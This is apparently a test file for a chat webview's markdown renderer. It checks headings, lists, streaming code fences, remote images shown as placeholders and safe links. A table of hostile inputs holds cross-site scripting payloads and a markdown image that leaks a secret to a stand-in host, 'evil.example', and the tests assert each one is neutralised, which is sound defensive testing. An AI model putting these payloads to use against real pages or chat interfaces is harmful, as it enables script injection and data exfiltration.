import { strict as assert } from 'node:assert';
import { installDom, type FakeWebview } from './dom';

describe('rendering an answer (jsdom, the renderer the chat uses)', () => {
  let env: FakeWebview;
  let render: (text: string) => DocumentFragment;

  before(async () => {
    env = installDom();
    const { renderMarkdownInto } = await import('../../../src/webview/render');
    render = (text: string) => {
      const container = document.createElement('div');
      renderMarkdownInto(container, text);
      const fragment = document.createDocumentFragment();
      fragment.append(...container.childNodes);
      return fragment;
    };
  });
  after(() => env.close());

  function html(text: string): string {
    const div = document.createElement('div');
    div.append(render(text));
    return div.innerHTML;
  }

  it('renders markdown to elements', () => {
    const div = document.createElement('div');
    div.append(render('# Title\n\n- a\n- **b**\n\n```js\nx()\n```'));
    assert.equal(div.querySelector('h1')?.textContent, 'Title');
    assert.equal(div.querySelectorAll('li').length, 2);
    assert.equal(div.querySelector('strong')?.textContent, 'b');
    assert.equal(div.querySelector('pre code')?.textContent, 'x()\n');
  });

  it('shows an unclosed code fence as a code block while it streams', () => {
    const div = document.createElement('div');
    div.append(render('Here:\n\n```python\nprint(1)\nprint('));
    assert.equal(div.querySelector('pre code')?.textContent, 'print(1)\nprint(\n');
  });

  const hostile: Array<[string, string, RegExp]> = [
    ['a script tag', 'hi <script>alert(1)</script>', /<script/i],
    ['an event handler', '<b onmouseover="alert(1)">x</b>', /onmouseover/i],
    ['a javascript: link', '[click](javascript:alert(1))', /javascript:/i],
    ['a data: link', '[click](data:text/html,<script>alert(1)</script>)', /data:/i],
    ['a markdown image to a remote host (a placeholder, never an <img>)', '![x](https://evil.example/leak?secret=1)', /<img|src=/i],
    ['a raw img tag', '<img src=x onerror=alert(1)>', /<img|onerror/i],
    ['an iframe', '<iframe src="https://evil.example"></iframe>', /<iframe/i],
    ['an svg with script', '<svg><script>alert(1)</script></svg>', /<svg|<script/i],
    ['a style tag', '<style>body{background:url(https://evil.example)}</style>', /<style|evil/i],
    ['a form', '<form action="https://evil.example"><input name=a></form>', /<form|<input/i],
  ];
  for (const [name, text, forbidden] of hostile) {
    it(`neutralises ${name}`, () => assert.doesNotMatch(html(text), forbidden));
  }

  it('shows a remote image as a placeholder with its address as text and a button to open it', () => {
    const div = document.createElement('div');
    div.append(render('![chart](https://example.com/c.png)'));
    const placeholder = div.querySelector('[data-testid="image-placeholder"]');
    assert.equal(placeholder?.getAttribute('data-url'), 'https://example.com/c.png');
    assert.equal(placeholder?.querySelector('code')?.textContent, 'https://example.com/c.png');
    assert.ok(placeholder?.querySelector('button'));
    assert.equal(div.querySelector('img'), null);
  });

  it('keeps http, https and mailto links', () => {
    const out = html('[a](https://example.com) [b](http://example.com) [c](mailto:a@example.com)');
    assert.match(out, /href="https:\/\/example.com"/);
    assert.match(out, /href="http:\/\/example.com"/);
    assert.match(out, /href="mailto:a@example.com"/);
  });
});
